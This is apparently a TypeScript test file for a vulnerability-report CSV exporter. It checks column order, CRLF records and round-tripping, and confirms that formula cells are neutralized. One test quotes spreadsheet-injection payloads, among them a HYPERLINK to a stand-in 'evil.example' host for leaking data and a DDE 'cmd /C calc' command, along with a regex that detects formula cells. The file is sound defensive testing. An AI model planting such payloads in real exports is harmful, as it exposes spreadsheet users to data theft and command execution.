import assert from 'node:assert/strict';
import { CSV_COLUMNS, renderCsv } from '../../../src/core/report/csv';
import { neutralizeFormula } from '../../../src/core/report/escape';
import type { PlanReport, ReportDocument } from '../../../src/core/report/reportModel';
import { formatInstant } from '../../../src/core/report/renderShared';
import { buildHostileReport, buildRealisticReport } from './fixtureReport';

/** A strict RFC 4180 reader: CRLF-terminated records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (field === '' && text[i] === '"') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') break;
        else field += text[i++];
      }
      i++;
      assert.ok(text[i] === ',' || text.startsWith('\r\n', i), `a quoted field must end at a comma or CRLF (offset ${i})`);
      continue;
    }
    if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      assert.ok(text[i] !== '\r' && text[i] !== '\n' && text[i] !== '"', `bare ${JSON.stringify(text[i])} outside quotes at offset ${i}`);
      field += text[i++];
    }
  }
  assert.equal(field, '', 'the last record must end with CRLF');
  assert.equal(record.length, 0, 'the last record must end with CRLF');
  return records;
}

type Vulnerability = PlanReport['vulnerabilities'][number];

/** What a reader of the CSV should get back for each column of a plan × vulnerability row. */
function expectedRow(p: PlanReport, v: Vulnerability | null, deadlineLocal: string): string[] {
  const s = (x: string | number | boolean | null | undefined): string =>
    x === null || x === undefined ? '' : typeof x === 'string' ? neutralizeFormula(x) : String(x);
  return [
    s(v?.id),
    s(p.id),
    s(p.title),
    s(p.owner),
    s((p.groups ?? []).join(';')),
    s(p.tier),
    s(p.state),
    s(p.deadline),
    s(deadlineLocal),
    s(p.deadline === null ? null : p.deadlineOrigin),
    s(v?.severity),
    s(v?.score),
    s(v?.kev),
    s(v?.inScope),
    s(p.impact),
    s(p.clockStart),
    s(p.remediatedAt),
    s(p.timeToPatchHours),
    s(p.endpoints.targets),
    s(p.endpoints.patched),
    s(p.endpoints.failed),
    s(p.endpointsPercent),
    s(p.exemptedBy.join(';')),
    s(p.file),
  ];
}

/** The rows a document should give: one per plan × vulnerability, one for a plan without any. */
function expectedRows(doc: ReportDocument): string[][] {
  const local = (p: PlanReport): string => (p.deadline === null ? '' : formatInstant(p.deadline, doc.timezone));
  return doc.plans.flatMap((p) =>
    p.vulnerabilities.length === 0 ? [expectedRow(p, null, local(p))] : p.vulnerabilities.map((v) => expectedRow(p, v, local(p))),
  );
}

const rowCount = (doc: ReportDocument): number => doc.plans.reduce((n, p) => n + Math.max(1, p.vulnerabilities.length), 0);

describe('renderCsv', () => {
  const realistic = buildRealisticReport();
  const hostile = buildHostileReport();

  it('starts with the header row, in the documented column order', () => {
    const [header] = parseCsv(renderCsv(realistic));
    assert.deepEqual(header, [
      'vulnerability',
      'plan',
      'title',
      'owner',
      'groups',
      'tier',
      'state',
      'deadline',
      'deadlineLocal',
      'deadlineFrom',
      'severity',
      'score',
      'kev',
      'inScope',
      'impact',
      'clockStart',
      'remediatedAt',
      'timeToPatchHours',
      'targets',
      'patched',
      'failed',
      'endpointsPercent',
      'exemptedBy',
      'file',
    ]);
    assert.deepEqual(header, [...CSV_COLUMNS]);
  });

  it('ends every record with CRLF and has no bare LF', () => {
    const csv = renderCsv(realistic);
    assert.ok(csv.endsWith('\r\n'));
    assert.equal(csv.split('\r\n').length - 1, rowCount(realistic) + 1);
    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /\n/);
  });

  it('parses back to one row per plan × vulnerability, in document order, with the same values', () => {
    const rows = parseCsv(renderCsv(realistic));
    assert.ok(rowCount(realistic) > realistic.plans.length, 'the fixture has plans with several vulnerabilities');
    assert.deepEqual(rows.slice(1), expectedRows(realistic));
  });

  it('keeps a plan without vulnerabilities as one row with an empty vulnerability', () => {
    const doc = buildRealisticReport();
    doc.plans = [{ ...doc.plans[0], vulnerabilities: [] }];
    const rows = parseCsv(renderCsv(doc));
    assert.equal(rows.length, 2);
    assert.equal(rows[1][CSV_COLUMNS.indexOf('vulnerability')], '');
    assert.equal(rows[1][CSV_COLUMNS.indexOf('plan')], doc.plans[0].id);
  });

  it('writes numbers as numbers, unknowns as empty cells, lists joined by ; and the deadline in both forms', () => {
    const rows = parseCsv(renderCsv(realistic));
    const col = (name: string): number => CSV_COLUMNS.indexOf(name);
    const row = (plan: string, cve?: string): string[] => rows.find((r) => r[col('plan')] === plan && (cve === undefined || r[col('vulnerability')] === cve))!;
    const chrome = row('PLAN-2026-041', 'CVE-2026-1234');
    assert.equal(chrome[col('endpointsPercent')], '37.7');
    assert.equal(chrome[col('targets')], '77');
    assert.equal(chrome[col('kev')], 'true');
    assert.equal(chrome[col('score')], '8.8');
    assert.equal(chrome[col('remediatedAt')], '');
    assert.equal(chrome[col('exemptedBy')], 'EXC-2026-007');
    assert.equal(chrome[col('groups')], 'pilot;kiosks');
    assert.equal(chrome[col('deadline')], '2026-11-22T21:00:00.000Z');
    assert.equal(chrome[col('deadlineLocal')], '2026-11-22 15:00 (-06:00)');
    assert.equal(chrome[col('deadlineFrom')], 'critical tier: 72h from testing passed');
    assert.equal(row('PLAN-2026-041', 'CVE-2026-1240')[col('kev')], 'false');
    const java = row('PLAN-2026-033');
    assert.equal(java[col('timeToPatchHours')], '40.5');
    assert.equal(java[col('remediatedAt')], '2026-11-04T10:30:00.000Z');
    assert.equal(row('PLAN-2026-029')[col('tier')], '');
  });

  it('round-trips every hostile value, with formula cells neutralized by a leading quote', () => {
    const rows = parseCsv(renderCsv(hostile));
    assert.deepEqual(rows.slice(1), expectedRows(hostile));
    const cells = rows.slice(1).flat();
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?leak","click me")`));
    assert.ok(cells.includes(`'+cmd|' /C calc'!A0`));
    assert.ok(cells.includes(`'\t=1+1`));
    for (const cell of cells)
      assert.doesNotMatch(cell, /^\s*[=+@\uFF1D\uFF0B\uFF20]|^-(?!\d+(\.\d+)?$)/, `cell could run as a formula: ${JSON.stringify(cell)}`);
  });

  it('keeps a negative number a plain number', () => {
    const rows = parseCsv(renderCsv(hostile));
    const last = rows[rows.length - 1];
    assert.equal(last[CSV_COLUMNS.indexOf('timeToPatchHours')], '-3');
  });

  it('is deterministic', () => {
    assert.equal(renderCsv(buildHostileReport()), renderCsv(buildHostileReport()));
  });
});
